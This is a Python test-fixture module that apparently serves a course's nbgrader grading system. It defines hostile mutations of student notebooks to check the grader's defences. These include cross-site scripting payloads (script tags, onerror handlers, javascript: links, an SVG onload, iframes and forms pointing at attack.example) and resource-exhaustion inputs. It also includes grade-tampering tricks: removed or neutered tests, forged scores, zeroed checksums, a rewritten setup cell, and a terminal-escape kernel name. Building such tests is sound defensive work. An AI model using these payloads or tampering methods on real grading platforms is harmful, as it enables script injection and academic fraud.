"""What hostile students do to the file itself: cells, what nbgrader keeps in them, and bytes.

Each is a function of the released notebook, as JSON has it: it changes the notebook in place, or returns the file's
bytes. Sizes are the course's own limits and a little more.
"""

import base64
import copy
import gzip
import io
import json
from collections.abc import Callable
from typing import Any

from PIL import Image

from dlcourse.grading.desk.inert import LONGEST_LINE, LONGEST_SHOWN, MOST_SHOWN
from dlcourse.grading.desk.markup import MOST_TAGS
from dlcourse.grading.desk.reading import LARGEST_FILE, MOST_VALUES
from dlcourse.grading.desk.tidying import LONGEST_TEXT, MOST_CELLS
from dlcourse.grading.display.pictures import MOST_PIXELS
from dlcourse.grading.isolation.notebook import LONGEST_NOTEBOOK
from dlcourse.grading.isolation.shell import MOST_OUTPUT

PAGE = '"><script>ATTACK()</script>'

Notebook = dict[str, Any]  # or a cell of it
Change = Callable[[Notebook], bytes | None]


def cells_of(notebook: Notebook, kind: str) -> list[Notebook]:
    """The cells that nbgrader calls so: "grade" (the tests) or "solution" (the answers)."""
    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get(kind)]


def add(notebook: Notebook, source: str, *kinds: str, **more: Any) -> None:
    for kind in kinds:
        cell = {"cell_type": kind, "metadata": {}, "id": f"own-{len(notebook['cells'])}", "source": source}
        made: Notebook = {"outputs": [], "execution_count": None} if kind == "code" else {}
        notebook["cells"].append(cell | made | more)


def adding(source: str, *kinds: str) -> Change:
    """A change that adds cells of the student's own, one of each kind."""
    return lambda notebook: add(notebook, source, *kinds)


# --- inject: what a page would be made of -------------------------------------------------------------------


def outputs_ready_made(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "data": {"text/html": PAGE}, "metadata": {}}]
            cell["metadata"]["tags"] = ["skip-execution"]


def widgets_ready_made(notebook: Notebook) -> None:
    state = {"state": {"x": PAGE}, "version_major": 2, "version_minor": 0}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    add(
        notebook,
        "",
        "code",
        outputs=[
            {
                "output_type": "display_data",
                "metadata": {},
                "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
            }
        ],
    )


def attached_drawing(notebook: Notebook) -> None:
    drawing = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="ATTACK()"/>').decode()
    add(notebook, "![x](attachment:a.svg)", "markdown", attachments={"a.svg": {"image/svg+xml": drawing}})


def attached_page(notebook: Notebook) -> None:
    add(notebook, "![x](attachment:a.png)", "markdown", attachments={"a.png": {"image/png": PAGE}})


INJECT: dict[str, Change] = {
    "a script in a cell": adding("<script>ATTACK()</script>", "markdown", "raw"),
    "a handler in a cell": adding("<img src=x onerror=ATTACK()>", "markdown", "raw"),
    "a frame in a cell": adding('<iframe src="http://attack.example/"></iframe>', "markdown", "raw"),
    "a form in a cell": adding('<form action="http://attack.example/"><input></form>', "markdown", "raw"),
    "a style in a cell": adding("<style>.panel-heading {display: none}</style>", "markdown", "raw"),
    "a script's link in a cell": adding("[x](javascript:ATTACK())", "markdown"),
    "a picture from elsewhere in a cell": adding("![x](http://attack.example/x.png)", "markdown"),
    "a link in a cell's formula": adding(r"$\href{javascript:ATTACK()}{x}$", "markdown"),
    "a formula over other cells": adding(r"$$\raise 10em{35}$$", "markdown"),
    "outputs that were not made here": outputs_ready_made,
    "widgets that were not made here": widgets_ready_made,
    "a drawing attached to a cell": attached_drawing,
    "a page attached as a picture": attached_page,
}

# --- exhaust: what takes long to make a page of -------------------------------------------------------------


def large_picture(notebook: Notebook) -> None:
    side = int(MOST_PIXELS**0.5) + 1
    file = io.BytesIO()
    Image.new("1", (side, side)).save(file, "PNG")
    picture = {"a.png": {"image/png": base64.b64encode(file.getvalue()).decode()}}
    add(notebook, "![x](attachment:a.png)", "markdown", attachments=picture)


def long_texts_together(notebook: Notebook) -> None:
    for _ in range(MOST_SHOWN // LONGEST_SHOWN + 1):
        add(notebook, "word\n" * (LONGEST_SHOWN // 5 - 1), "markdown")


MUCH = f"print('x' * {MOST_OUTPUT - 1000})"
EXHAUST: dict[str, Change] = {
    "a long line to be shown": adding("x" * (LONGEST_LINE + 10), "markdown", "raw", "code"),
    "a long text to be shown": adding("word\n" * (LONGEST_SHOWN // 5 + 100), "markdown", "raw", "code"),
    "long texts to be shown": long_texts_together,
    "many tags to be shown": adding("<b>x</b>\n" * (MOST_TAGS // 2 + 1), "markdown"),
    "a large picture to be shown": large_picture,
    "a long formula to be shown": adding(f"$${'x' * (LONGEST_LINE + 10)}$$", "markdown"),
    "many cells that print much [refused]": adding(MUCH, *["code"] * (LONGEST_NOTEBOOK // MOST_OUTPUT + 2)),
}

# --- metadata: what belongs to the course --------------------------------------------------------------------


def tests_weakened(notebook: Notebook) -> None:
    for cell in cells_of(notebook, "grade"):
        cell["source"] = "pass"


def more_points(notebook: Notebook) -> None:
    for cell in cells_of(notebook, "grade"):
        cell["metadata"]["nbgrader"]["points"] *= 100


def tests_removed(notebook: Notebook) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if cell not in cells_of(notebook, "grade")]


def ids_swapped(notebook: Notebook) -> None:
    tests, answers = cells_of(notebook, "grade"), cells_of(notebook, "solution")
    for test, answer in zip(tests, answers, strict=False):
        one, other = test["metadata"]["nbgrader"], answer["metadata"]["nbgrader"]
        one["grade_id"], other["grade_id"] = other["grade_id"], one["grade_id"]
        test["id"], answer["id"] = answer["id"], test["id"]


def names_of_another(notebook: Notebook) -> None:
    """Every test bears the name of the first one."""
    tests = cells_of(notebook, "grade")
    for test in tests:
        test["id"] = test["metadata"]["nbgrader"]["grade_id"] = tests[0]["id"]


def tests_first(notebook: Notebook) -> None:
    """Before the answers, where a test that expects nothing would pass."""
    tests = cells_of(notebook, "grade")
    notebook["cells"] = tests + [cell for cell in notebook["cells"] if cell not in tests]


def tests_of_another_type(notebook: Notebook) -> None:
    for number, cell in enumerate(cells_of(notebook, "grade")):
        cell["cell_type"] = ("markdown", "raw")[number % 2]
        cell["metadata"]["nbgrader"]["cell_type"] = cell["cell_type"]
        cell.pop("outputs", None), cell.pop("execution_count", None)


def tags_on_tests(notebook: Notebook) -> None:
    tags = ["skip-execution", "raises-exception", "remove-cell", "explanation", "solution", "hide-input"]
    for cell in cells_of(notebook, "grade"):
        cell["metadata"] |= {"tags": tags, "deletable": True, "editable": True, "collapsed": True}


def copies_of_tests(notebook: Notebook) -> None:
    for cell in cells_of(notebook, "grade"):
        notebook["cells"].append(copy.deepcopy(cell) | {"source": "pass"})


def own_test_cells(notebook: Notebook) -> None:
    for number, cell in enumerate(copy.deepcopy(cells_of(notebook, "grade"))):
        cell["id"] = f"own-{number}"
        cell["metadata"]["nbgrader"] |= {"grade_id": f"own-{number}", "points": 100, "checksum": "0" * 32}
        notebook["cells"].append(cell | {"source": "1.0"})


def checksums_of_nothing(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["checksum"] = "0" * 32
            cell["source"] = "1.0"


def tests_to_be_answered(notebook: Notebook) -> None:
    for cell in cells_of(notebook, "grade"):
        cell["metadata"]["nbgrader"] |= {"solution": True, "locked": False}
        cell["source"] = "1.0"


def answers_locked_and_graded(notebook: Notebook) -> None:
    for cell in cells_of(notebook, "solution"):
        cell["metadata"]["nbgrader"] |= {"grade": True, "locked": True, "points": 100}


def every_cell_a_task(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        about = cell["metadata"].setdefault("nbgrader", {})
        about |= {"task": True, "points": 100, "schema_version": 99, "remove": True}


def setup_that_answers(notebook: Notebook) -> None:
    setup = next(cell for cell in notebook["cells"] if cell["id"] == "setup")
    setup["source"] = "check = grade = lambda *arguments: None"


def scores_ready_made(notebook: Notebook) -> None:
    done = {"output_type": "execute_result", "data": {"text/plain": "100.0"}, "metadata": {}, "execution_count": 1}
    for cell in cells_of(notebook, "grade"):
        cell["outputs"] = [done]
        cell["metadata"]["nbgrader"] |= {"score": 100, "auto_score": 100, "manual_score": 100, "comment": "満点"}


def names_with_tags(notebook: Notebook) -> None:
    for number, cell in enumerate(notebook["cells"]):
        cell["id"] = f'"><img src=x onerror=ATTACK()>{number}'


def metadata_of_any_kind(notebook: Notebook) -> None:
    kinds: list[object] = [5, None, [], "x", {"grade_id": ["K0-1"]}, True]
    for cell, about in zip(cells_of(notebook, "grade"), kinds, strict=False):
        cell["metadata"]["nbgrader"] = about


def notebook_metadata_of_any_kind(notebook: Notebook) -> None:
    notebook["metadata"] = {
        "kernelspec": "bash",
        "language_info": {"name": PAGE},
        "title": PAGE,
        "celltoolbar": [1],
        "authors": [{"name": PAGE}],
        "grading": {"seconds": PAGE, "submitted": "0" * 64},
    }


def another_kernel(notebook: Notebook) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "\x1b]0;ATTACK\x07../../x", "language": "bash", "display_name": "x"}


def attachments_of_any_kind(notebook: Notebook) -> None:
    text = "![x](attachment:a.png) ![x](attachment:b.png) ![x](attachment:missing.png)"
    kinds: list[object] = [{"a.png": {PAGE: "x"}, "b.png": 5}, {"a.png": {"image/png": 5}}, {"a.png": []}, 5, None]
    for files in kinds:
        add(notebook, text, "markdown", attachments=files)


def sources_of_any_kind(notebook: Notebook) -> None:
    sources = [5, None, {"a": 1}, [["x"]], [5, None], True]
    for cell, source in zip(cells_of(notebook, "solution"), sources, strict=False):
        cell["source"] = source


def cells_of_any_kind(notebook: Notebook) -> None:
    notebook["cells"] += [5, None, [], {}, {"cell_type": "code"}, {"cell_type": "x", "source": "", "metadata": {}}]


def ids_of_any_kind(notebook: Notebook) -> None:
    kinds: list[object] = [5, None, {}, ["K0-1"], "x" * 65, "\ud800"]
    for cell, name in zip(notebook["cells"], kinds, strict=False):
        cell["id"] = name


METADATA: dict[str, Change] = {
    "tests that test nothing": tests_weakened,
    "points times 100": more_points,
    "tests removed": tests_removed,
    "names of tests and answers swapped": ids_swapped,
    "every test under one name": names_of_another,
    "tests before the answers": tests_first,
    "tests of another type": tests_of_another_type,
    "tags by which cells are skipped": tags_on_tests,
    "second copies of the tests": copies_of_tests,
    "tests of their own": own_test_cells,
    "checksums of nothing": checksums_of_nothing,
    "tests said to be answers": tests_to_be_answered,
    "answers said to be tests": answers_locked_and_graded,
    "every cell a task of another schema": every_cell_a_task,
    "the course's own cell, rewritten": setup_that_answers,
    "scores in the file": scores_ready_made,
    "names with tags in them": names_with_tags,
    "cells' metadata of any kind": metadata_of_any_kind,
    "the notebook's metadata of any kind": notebook_metadata_of_any_kind,
    "a kernel with a name for the terminal": another_kernel,
    "attachments of any kind": attachments_of_any_kind,
    "sources of any kind": sources_of_any_kind,
    "cells of any kind": cells_of_any_kind,
    "names of any kind": ids_of_any_kind,
}

# --- encoding: the file's bytes -------------------------------------------------------------------------------


def text_of(notebook: Notebook) -> str:
    return json.dumps(notebook, ensure_ascii=False)


def with_cell(notebook: Notebook, source: str) -> str:
    add(notebook, source, "markdown")
    return text_of(notebook)


def with_metadata(notebook: Notebook, text: str) -> str:
    """JSON as no json module would write it."""
    return text_of(notebook | {"metadata": notebook["metadata"] | {"x": "HERE"}}).replace('"HERE"', text)


ENCODING: dict[str, Change] = {
    "two byte order marks": lambda notebook: b"\xef\xbb\xbf" * 2 + text_of(notebook).encode(),
    "UTF-16": lambda notebook: text_of(notebook).encode("utf-16"),
    "UTF-32 without a mark": lambda notebook: text_of(notebook).encode("utf-32-be"),
    "bytes of no encoding": lambda notebook: text_of(notebook).encode().replace("答".encode(), b"\xff\xfe\x80"),
    "lone surrogates": lambda notebook: with_cell(notebook, "\ud800 \udfff").encode("utf-8", "surrogatepass"),
    "escaped surrogates": lambda notebook: json.dumps(json.loads(with_cell(notebook, "\ud800"))).encode(),
    "NUL bytes behind": lambda notebook: text_of(notebook).encode() + b"\0" * 1000,
    "a program behind": lambda notebook: text_of(notebook).encode() + b"\nprint('x')",
    "half of a file": lambda notebook: text_of(notebook).encode()[:1000],
    "nothing": lambda notebook: b"",
    "nothing but spaces": lambda notebook: b" \r\n" * 1000,
    "a number of too many digits": lambda notebook: with_metadata(notebook, "9" * 5000).encode(),
    "numbers that JSON has not": lambda notebook: with_metadata(notebook, "[NaN, Infinity, -Infinity]").encode(),
    "lists in lists": lambda notebook: with_metadata(notebook, "[" * 1100 + "]" * 1100).encode(),
    "cells twice, the second time none": lambda notebook: (text_of(notebook)[:-1] + ', "cells": []}').encode(),
    "a file that is too large": lambda notebook: text_of(notebook).encode().ljust(LARGEST_FILE + 1),
    "too many values": lambda notebook: with_metadata(notebook, "[" + "0," * MOST_VALUES + "0]").encode(),
    "a text that is too long": lambda notebook: with_cell(notebook, "word\n" * (LONGEST_TEXT // 5 + 1)).encode(),
    "too many cells": lambda notebook: adding("1", *["code"] * MOST_CELLS)(notebook) or text_of(notebook).encode(),
    "format of the future": lambda notebook: text_of(notebook | {"nbformat": 99, "nbformat_minor": 99}).encode(),
    "format as a text": lambda notebook: text_of(notebook | {"nbformat": "4"}).encode(),
    "cells as a text": lambda notebook: text_of(notebook | {"cells": "x"}).encode(),
    "a list": lambda notebook: b"[]",
    "a number": lambda notebook: b"5",
    "a picture": lambda notebook: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 50,
    "a compressed file": lambda notebook: gzip.compress(text_of(notebook).encode()),
    "a link to a page": lambda notebook: b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n",
}
